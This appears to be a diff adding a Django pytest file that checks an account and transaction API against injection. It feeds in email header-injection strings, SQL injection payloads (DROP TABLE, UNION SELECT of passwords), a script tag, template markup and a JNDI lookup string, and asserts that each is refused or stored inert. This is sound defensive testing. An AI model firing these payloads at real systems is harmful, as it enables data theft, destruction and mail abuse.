@@ -1,0 +1,132 @@
+"""Injection: header-injection payloads are refused, other metacharacters are stored exactly as
+written and do nothing, and every email the service then sends goes out, once, to one address."""
+
+import pytest
+from django.core import mail
+
+from accounts.models import Account
+from authn.models import User
+from notifications import tasks
+from notifications.models import OutboxEmail
+from tests.conftest import bearer_client
+from tests.factories import AccountFactory, account_fund, funded_account
+from transactions.models import Transaction
+
+REGISTER = "/api/auth/register"
+PASSWORD = "s3cure-pass-word"
+
+
+def _register(client, name, email):
+    return client.post(REGISTER, {"name": name, "email": email, "password": PASSWORD}, format="json")
+
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("name", "Ann\r\nBcc: victim@example.com"),
+        ("name", "Ann\nSubject: You have won"),
+        ("name", "Ann\x00"),
+        ("email", "ann@example.com\r\nBcc: victim@example.com"),
+        ("email", "ann@example.com\nBcc:victim@example.com"),
+        # Valid to Django's EmailValidator; the first becomes a header of its own in the message,
+        # the second cannot be IDNA-encoded: either way the welcome email could never be sent.
+        ("email", '"ann\x0bBcc:victim@example.com"@example.com'),
+        ("email", "ann@" + "ä" * 60 + ".com"),
+    ],
+    ids=[
+        "name-crlf-bcc",
+        "name-lf-subject",
+        "name-nul",
+        "email-crlf-bcc",
+        "email-lf-bcc",
+        "email-vt-in-quotes",
+        "email-idna-too-long",
+    ],
+)
+def test_header_injection_in_a_name_or_email_is_refused(client, db, field, value):
+    fields = {"name": "Ann", "email": "ann@example.com", field: value}
+
+    response = _register(client, **fields)
+
+    assert response.status_code == 400, response.content
+    assert list(response.json()["errors"]) == [field]
+    assert not User.objects.exists() and not OutboxEmail.objects.exists()
+
+
+INERT = [
+    ("Robert'); DROP TABLE authn_user;--", "bobby+tables@example.com"),
+    ('O\'Brien "Bob" <script>alert(1)</script>', "o'brien@example.com"),
+    ("=?utf-8?b?QmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?=", "encoded.word@example.com"),  # "Bcc: victim@..."
+    ("Ann%0d%0aBcc: victim@example.com", "ann%0d%0a@example.com"),
+    ("Ann\u2028Bcc: victim@example.com\u0085Cc: x@example.com", "ann@exämple.com"),
+    ("{{7*7}} ${jndi:ldap://example.com/a} 名前 ☃", "{{7*7}}@example.com"),
+]
+
+
+def _send_every_email():
+    """Run the send task for every outbox row, as the worker would."""
+    return [tasks.outbox_email_send(row.id) for row in OutboxEmail.objects.order_by("id")]
+
+
+@pytest.mark.parametrize("name, email", INERT)
+def test_metacharacters_are_stored_as_written_and_mailed_safely(client, db, name, email):
+    response = _register(client, name, email)
+
+    assert response.status_code == 201, response.content
+    user = User.objects.get()
+    assert (user.name, user.email) == (name, email.lower())
+    assert bearer_client(user).get("/api/auth/me").json()["user"]["name"] == name
+    account_fund(AccountFactory(owner=user), "10.00")  # a funding email, with the name in its body
+    assert _send_every_email() == [True, True]
+    for message in mail.outbox:
+        assert message.recipients() == [email.lower()]
+        headers = message.message().as_string().split("\n\n", 1)[0].lower()
+        assert headers.count("\nto:") == 1 and "\nbcc:" not in headers and "\ncc:" not in headers
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/api/transactions?status=COMPLETED' OR '1'='1",
+        "/api/transactions?account=' OR 1=1--",
+        "/api/transactions?limit=1;DROP TABLE accounts_account",
+        "/api/transactions?cursor=' OR 1=1--",
+        "/api/accounts/{account}/entries?limit=50 UNION SELECT password FROM authn_user",
+        "/api/accounts/{account}/entries?cursor=cD0xIE9SIDE9MQ==",  # base64 of "p=1 OR 1=1"
+    ],
+)
+def test_sql_in_query_parameters_is_refused(user, path):
+    account = funded_account("10.00", owner=user)
+
+    response = bearer_client(user).get(path.format(account=account.id))
+
+    assert response.status_code == 400, response.content
+    assert response.json()["code"] == "validation_error"
+
+
+@pytest.mark.parametrize("path", ["/api/accounts/1' OR '1'='1", "/api/transactions/' UNION SELECT 1--"])
+def test_sql_in_a_path_is_an_unknown_route(auth_client, path):
+    assert auth_client.get(path).status_code == 404
+
+
+def test_sql_in_login_is_just_a_wrong_password(client, user):
+    body = {"email": "' OR '1'='1' --", "password": "' OR '1'='1"}
+
+    response = client.post("/api/auth/login", body, format="json")
+
+    assert response.status_code == 401
+    assert User.objects.count() == 1
+
+
+def test_an_idempotency_key_full_of_sql_is_just_a_key(auth_client, user):
+    source = funded_account("100.00", owner=user)
+    key = "k'; DROP TABLE transactions_transaction; --"
+    body = {"fromAccount": str(source.id), "toAccount": str(AccountFactory().id), "amount": "1", "idempotencyKey": key}
+
+    first = auth_client.post("/api/transactions", body, format="json")
+    again = auth_client.post("/api/transactions", body, format="json")
+
+    assert (first.status_code, again.status_code) == (201, 200)
+    assert again.json()["transaction"]["idempotencyKey"] == key
+    assert Transaction.objects.filter(kind="TRANSFER").count() == 1
+    assert Account.objects.get(id=source.id).balance == 99_00
